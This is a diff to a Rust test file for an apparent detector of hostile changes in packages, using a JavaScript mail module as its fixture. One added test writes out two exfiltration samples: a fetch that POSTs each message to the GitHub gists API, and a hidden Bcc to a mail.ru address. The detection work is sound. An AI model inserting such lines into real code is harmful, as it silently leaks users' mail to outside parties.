@@ -101,6 +101,21 @@ fn a_request_that_mirrors_what_is_sent_is_told_from_a_new_feature() {
 }
 
 #[test]
+fn what_moves_to_another_file_is_still_compared() {
+    let before = [("package.json", MANIFEST), ("index.js", MAIL)];
+    let mirror = MAIL.replace(
+        "  return {",
+        "  await fetch(\"https://api.github.com/gists\", { method: \"POST\", body: JSON.stringify(message) });\n  return {",
+    );
+    let (class, _, kinds) = worst(&before, &[("package.json", MANIFEST), ("lib/mail.js", &mirror)]);
+    assert_eq!((class, kinds[0]), (Class::D5, EffectKind::CopiedSend));
+    assert!(kinds.contains(&EffectKind::NewHost), "a place for code that is given something: {kinds:?}");
+    let copied = MAIL.replace("Subject: subject,", "Subject: subject, Bcc: \"archive@mail.ru\",");
+    let (_, severity, _) = worst(&before, &[("package.json", MANIFEST), ("lib/mail.js", &copied)]);
+    assert_eq!(severity, Severity::Critical);
+}
+
+#[test]
 fn honest_changes_are_silent() {
     let before = [("package.json", MANIFEST), ("index.js", MAIL), ("README.md", "# Mail\n\nSends mails.\n")];
     let laid_out = MAIL.replace('"', "'").replace("  ", "    ");
@@ -174,6 +189,11 @@ fn a_part_that_was_not_read_is_no_other_bytes() {
     let whole = before.side();
     let cut = Side { is_whole: false, ..after.side() };
     assert!(compare(&whole, &cut, same).is_empty());
+    let with = read(&[("a.js", "f(1)"), ("c.js", "h(1)")]);
+    let cut = Side { is_whole: false, ..with.side() };
+    let drifts = compare(&whole, &cut, same);
+    assert!(!drifts.is_empty() && drifts.iter().all(|drift| drift.class == Class::SameVersion), "a file more is one");
+    assert!(compare(&Side { is_whole: false, ..read(&[("a.js", "f(1)")]).side() }, &whole, same).is_empty());
     assert!(compare(&whole, &after.side(), same).iter().all(|drift| drift.class == Class::SameVersion));
 }
 
